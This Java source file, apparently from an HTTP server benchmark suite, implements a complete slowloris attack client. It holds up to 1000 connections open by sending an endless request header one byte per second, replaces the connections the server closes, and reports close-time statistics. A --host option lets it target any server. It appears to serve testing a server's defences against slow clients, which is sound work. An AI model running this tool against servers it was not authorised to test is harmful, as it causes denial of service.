package org.microthreads.bench.http;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Locale;
import org.HdrHistogram.Histogram;

/**
 * A slowloris attack: {@code --connections} connections (default 1000), each sending a request head one byte
 * per second and never finishing it (after the request line and Host, one endless header value). A connection
 * the server closes (EOF, reset, a failed write) is timed from its connect and replaced by a new one, so the
 * attack stays at full strength for {@code --seconds}; at most 512 connects are in progress at once. One thread,
 * one selector, non-blocking.
 *
 * <pre>java -cp ... org.microthreads.bench.http.SlowClient --port 8080 [--connections 1000] [--seconds 20]</pre>
 *
 * Prints {@code SLOWLORIS opened= closed= stillOpen= refused= close_p50_s= close_max_s=} ({@code opened}: connects
 * that succeeded, replacements included; {@code closed}: of those, closed by the server; {@code refused}: connects
 * that failed; the close times are seconds from connect to the server's close). Exit code 0.
 */
public final class SlowClient {
    private SlowClient() {}

    private static final byte[] HEAD = "GET /plaintext HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ".getBytes(StandardCharsets.US_ASCII);
    private static final long SECOND = 1_000_000_000L;

    /** One slow connection: when it connected, how many bytes of its endless head it sent, when the next is due. */
    private static final class Slow {
        final SocketChannel channel;
        long connectedAt = -1;
        long sent;
        long nextByte;

        Slow(SocketChannel channel) {
            this.channel = channel;
        }

        byte nextByte() {
            return sent < HEAD.length ? HEAD[(int) sent] : (byte) 'a';
        }
    }

    /** Runs the attack described by the arguments and prints its {@code SLOWLORIS} line. */
    public static void main(String[] args) throws IOException {
        int n = (int) Endpoints.number(args, "--connections", "1000");
        double seconds = Endpoints.number(args, "--seconds", "20");
        if (n < 1) throw new IllegalArgumentException("--connections must be >= 1, was " + n);
        if (!(seconds > 0) || seconds > 3600) throw new IllegalArgumentException("--seconds must be in (0, 3600], was " + seconds);
        InetSocketAddress address = new InetSocketAddress(Endpoints.option(args, "--host", "127.0.0.1"), Endpoints.port(args));
        System.out.println(run(address, n, seconds));
    }

    static String run(InetSocketAddress address, int n, double seconds) throws IOException {
        Histogram closeMillis = new Histogram(3_600_000L, 3);
        long opened = 0;
        long refused = 0;
        int connecting = 0;
        List<Slow> live = new ArrayList<>(n); // connected, in no particular order
        ByteBuffer one = ByteBuffer.allocate(1);
        ByteBuffer in = ByteBuffer.allocate(4096);
        try (Selector selector = Selector.open()) {
            long start = System.nanoTime();
            long end = start + (long) (seconds * SECOND);
            while (true) {
                long now = System.nanoTime();
                if (now >= end) break;
                while (live.size() + connecting < n) { // keep n connections up, replacing the closed ones
                    SocketChannel ch = SocketChannel.open();
                    ch.configureBlocking(false);
                    Slow s = new Slow(ch);
                    if (ch.connect(address)) {
                        ch.register(selector, SelectionKey.OP_READ, s);
                        connected(s, now, live);
                        opened++;
                    } else {
                        ch.register(selector, SelectionKey.OP_CONNECT, s);
                        connecting++;
                    }
                    if (connecting >= 512) break;
                }
                selector.select(10);
                now = System.nanoTime();
                for (Iterator<SelectionKey> it = selector.selectedKeys().iterator(); it.hasNext(); ) {
                    SelectionKey k = it.next();
                    it.remove();
                    Slow s = (Slow) k.attachment();
                    if (!k.isValid()) continue;
                    if (k.isConnectable()) {
                        connecting--;
                        try {
                            s.channel.finishConnect();
                        } catch (IOException e) {
                            refused++;
                            k.cancel();
                            s.channel.close();
                            continue;
                        }
                        k.interestOps(SelectionKey.OP_READ);
                        connected(s, now, live);
                        opened++;
                    } else if (k.isReadable()) {
                        boolean closed;
                        try {
                            in.clear();
                            closed = s.channel.read(in) < 0; // a 408 or 400 before the close is read and dropped
                        } catch (IOException e) {
                            closed = true; // reset
                        }
                        if (closed) closeMillis.recordValue(serverClosed(s, now, k, live));
                    }
                }
                for (int i = live.size() - 1; i >= 0; i--) { // one byte per second per connection
                    Slow s = live.get(i);
                    if (s.nextByte > now) continue;
                    one.clear();
                    one.put(s.nextByte()).flip();
                    try {
                        if (s.channel.write(one) == 1) s.sent++;
                        s.nextByte += SECOND;
                    } catch (IOException e) {
                        closeMillis.recordValue(serverClosed(s, now, s.channel.keyFor(selector), live));
                    }
                }
            }
            for (Slow s : live) s.channel.close();
            for (SelectionKey k : selector.keys()) k.channel().close();
        }
        long closed = closeMillis.getTotalCount();
        return String.format(Locale.ROOT, "SLOWLORIS opened=%d closed=%d stillOpen=%d refused=%d close_p50_s=%.3f close_max_s=%.3f"
                        + " close_min_s=%.3f connections=%d seconds=%s",
                opened, closed, live.size(), refused, seconds(closeMillis, 50), closed == 0 ? Double.NaN : closeMillis.getMaxValue() / 1000.0,
                closed == 0 ? Double.NaN : closeMillis.getMinValue() / 1000.0, n, seconds);
    }

    private static void connected(Slow s, long now, List<Slow> live) {
        s.connectedAt = now;
        s.nextByte = now; // the first byte at once, then one a second
        live.add(s);
    }

    /** The server closed {@code s}: forgets it, returns the milliseconds it had been open. */
    private static long serverClosed(Slow s, long now, SelectionKey k, List<Slow> live) throws IOException {
        if (k != null) k.cancel();
        s.channel.close();
        live.remove(s); // O(n), at most n times a second: fine for thousands
        return Math.max(0, (now - s.connectedAt) / 1_000_000);
    }

    private static double seconds(Histogram h, double percentile) {
        return h.getTotalCount() == 0 ? Double.NaN : h.getValueAtPercentile(percentile) / 1000.0;
    }
}
